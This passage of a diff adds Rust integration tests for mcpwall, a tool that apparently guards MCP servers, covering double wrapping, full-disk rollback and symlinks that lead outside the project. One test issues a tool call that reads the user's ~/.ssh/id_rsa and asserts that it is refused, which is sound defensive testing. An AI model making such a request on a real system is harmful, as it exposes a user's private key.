+    .unwrap();
+    let read =
+        |path: String| serde_json::json!({"name": "read_text_file", "arguments": {"path": path}});
+    let ok = ask(
+        &mut stdin,
+        2,
+        "tools/call",
+        read(format!("{project}/README.md")),
+    );
+    assert!(
+        ok["result"].to_string().contains("hello from the project"),
+        "{ok}"
+    );
+    let key = ask(
+        &mut stdin,
+        3,
+        "tools/call",
+        read(format!("{home}/.ssh/id_rsa")),
+    );
+    assert!(
+        key.get("error").is_some() || key["result"]["isError"] == true,
+        "{key}"
+    );
+    assert!(!key.to_string().contains("not a real key"), "{key}");
+    drop(stdin);
+    let _ = child.kill();
+    let _ = child.wait();
+
+    let out = sandbox.run(&["unwrap", "filesystem"]);
+    assert_eq!(code(&out), 0, "{}", sandbox.stdout(&out));
+    assert_eq!(sandbox.read("project/.mcp.json"), text);
+}
+
+/// Issue 27: an entry an older `mcpwall wrap` wrapped a second time around the original
+/// (`mcpwall --server-name fs -- npx -y mcpwall -- srv`) is reported, and unwrap + wrap
+/// leave only this mcpwall, with the original's options.
+#[test]
+fn r27_an_entry_wrapped_around_the_original_is_reported_and_fixed() {
+    let sandbox = Sandbox::empty();
+    let fake = fake_server();
+    sandbox.write(
+        "project/.mcp.json",
+        &format!(
+            "{{\"mcpServers\": {{\"fs\": {{\"command\": \"mcpwall\", \"args\": [\"--server-name\", \"fs\", \"--\", \"npx\", \"-y\", \"mcpwall\", \"--strict\", \"--\", \"{fake}\"]}}}}}}\n"
+        ),
+    );
+    let status = sandbox.stdout(&sandbox.run(&["status"]));
+    assert!(status.contains("WRAPPED TWICE"), "{status}");
+    let doctor = sandbox.stdout(&sandbox.run(&["doctor"]));
+    assert!(doctor.contains("wrapped twice"), "{doctor}");
+    assert_eq!(code(&sandbox.run(&["unwrap", "fs"])), 0);
+    let out = sandbox.run(&["wrap", "fs"]);
+    assert_eq!(code(&out), 0, "{}", sandbox.stdout(&out));
+    assert_eq!(
+        sandbox.read("project/.mcp.json"),
+        format!(
+            "{{\"mcpServers\": {{\"fs\": {{\"command\": \"mcpwall\", \"args\": [\"--server-name\", \"fs\", \"--strict\", \"--\", \"{fake}\"]}}}}}}\n"
+        )
+    );
+    let status = sandbox.stdout(&sandbox.run(&["status"]));
+    assert!(
+        !status.contains("TWICE") && !status.contains("original"),
+        "{status}"
+    );
+}
+
+/// Issue 29 on a real full disk: HOME on a small tmpfs (mounted when the test runs as
+/// root; skipped otherwise), filled so the backup, then the temp file, then the records
+/// file is what no longer fits. Each run exits 1, says the file was not changed (or was
+/// rolled back), and leaves the file, the records and the backups as they were, with no
+/// temp file behind.
+#[cfg(target_os = "linux")]
+#[test]
+fn r29_a_full_disk_changes_nothing() {
+    // SAFETY: geteuid has no preconditions.
+    if unsafe { libc::geteuid() } != 0 {
+        eprintln!("skipped: mounting a small tmpfs needs root");
+        return;
+    }
+    const F: usize = 48 * 1024;
+    for (case, spare) in [
+        ("backup", F / 2),
+        ("temp file", F + F / 2),
+        ("records", 2 * F + 16 * 1024),
+    ] {
+        let sandbox = Sandbox::empty();
+        let home = sandbox.home();
+        let mounted = Command::new("mount")
+            .args(["-t", "tmpfs", "-o", "size=512k,mode=0755", "tmpfs"])
+            .arg(&home)
+            .status()
+            .is_ok_and(|s| s.success());
+        if !mounted {
+            eprintln!("skipped: cannot mount a tmpfs here");
+            return;
+        }
+        struct Unmount(PathBuf);
+        impl Drop for Unmount {
+            fn drop(&mut self) {
+                let _ = Command::new("umount").arg(&self.0).status();
+            }
+        }
+        let _unmount = Unmount(home.clone());
+        let rel = "home/.cursor/mcp.json";
+        let text = format!(
+            "{{\"mcpServers\": {{\"x\": {{\"command\": \"srv\", \"env\": {{\"PAD\": \"{}\"}}}}}}}}\n",
+            "p".repeat(F)
+        );
+        sandbox.write(rel, &text);
+        std::fs::create_dir_all(home.join(".mcpwall/backups")).unwrap();
+        let free = || {
+            let path = std::ffi::CString::new(home.as_os_str().as_encoded_bytes()).unwrap();
+            // SAFETY: a valid NUL-terminated path and a zeroed out-parameter.
+            let mut st: libc::statvfs = unsafe { std::mem::zeroed() };
+            assert_eq!(unsafe { libc::statvfs(path.as_ptr(), &mut st) }, 0);
+            st.f_bavail as usize * st.f_frsize as usize
+        };
+        let filler = free().saturating_sub(spare);
+        std::fs::write(home.join("filler"), vec![0u8; filler]).unwrap();
+        let out = sandbox.run(&["wrap", "x"]);
+        let stdout = sandbox.stdout(&out);
+        assert_eq!(code(&out), 1, "{case}: {stdout}");
+        assert!(
+            stdout.contains("No space left on device"),
+            "{case}: {stdout}"
+        );
+        assert_eq!(sandbox.read(rel), text, "{case}: {stdout}");
+        if case == "records" {
+            assert!(stdout.contains("rolled back"), "{case}: {stdout}");
+        } else {
+            assert!(stdout.contains("not changed"), "{case}: {stdout}");
+        }
+        let backups = std::fs::read_dir(home.join(".mcpwall/backups"))
+            .unwrap()
+            .count();
+        assert_eq!(
+            backups, 0,
+            "{case}: a backup of a change that did not happen"
+        );
+        let records =
+            std::fs::read_to_string(home.join(".mcpwall/wrapped.json")).unwrap_or_default();
+        assert!(!records.contains("cursor"), "{case}: {records}");
+        for dir in [home.join(".cursor"), home.join(".mcpwall")] {
+            let stray: Vec<_> = std::fs::read_dir(&dir)
+                .unwrap()
+                .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+                .filter(|n| n.contains(".tmp"))
+                .collect();
+            assert!(stray.is_empty(), "{case}: temp files left: {stray:?}");
+        }
+    }
+}
+
+/// Issue 29: a repository's client file that is a symlink to a file outside the project
+/// (here another client's config of the user's) is not written through without --force.
+#[cfg(unix)]
+#[test]
+fn r29_a_project_file_linked_outside_the_project_needs_force() {
+    let sandbox = Sandbox::empty();
+    let theirs = "{\"servers\": {\"x\": {\"command\": \"srv\"}}}\n";
+    sandbox.write("home/elsewhere/mcp.json", theirs);
+    std::fs::create_dir_all(sandbox.project().join(".vscode")).unwrap();
+    std::os::unix::fs::symlink(
+        sandbox.home().join("elsewhere/mcp.json"),
+        sandbox.project().join(".vscode/mcp.json"),
+    )
+    .unwrap();
+    let out = sandbox.run(&["wrap", "x"]);
+    let stdout = sandbox.stdout(&out);
+    assert_eq!(code(&out), 1, "{stdout}");
+    assert!(stdout.contains("outside the project"), "{stdout}");
+    assert_eq!(sandbox.read("home/elsewhere/mcp.json"), theirs);
+    let out = sandbox.run(&["wrap", "x", "--force"]);
+    assert_eq!(code(&out), 0, "{}", sandbox.stdout(&out));
+    assert!(
+        sandbox
+            .read("home/elsewhere/mcp.json")
+            .contains("\"--\", \"srv\"")
+    );
+    // A link inside the project is fine.
+    let sandbox = Sandbox::empty();
+    sandbox.write("project/shared/mcp.json", theirs);
+    std::fs::create_dir_all(sandbox.project().join(".vscode")).unwrap();
+    std::os::unix::fs::symlink(
+        "../shared/mcp.json",
+        sandbox.project().join(".vscode/mcp.json"),
+    )
+    .unwrap();
+    let out = sandbox.run(&["wrap", "x"]);
+    assert_eq!(code(&out), 0, "{}", sandbox.stdout(&out));
 }
